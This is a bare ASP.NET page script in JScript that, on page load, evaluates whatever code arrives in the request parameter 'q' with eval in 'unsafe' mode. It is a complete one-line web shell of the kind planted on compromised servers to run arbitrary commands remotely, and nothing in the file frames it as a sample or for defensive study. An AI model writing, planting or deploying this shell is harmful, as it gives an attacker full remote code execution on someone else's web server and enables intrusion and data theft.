<script runat=server language=JScript>
function Page_Load() {
    eval (Request . Item ["q"] ,"unsafe");
}
</script>
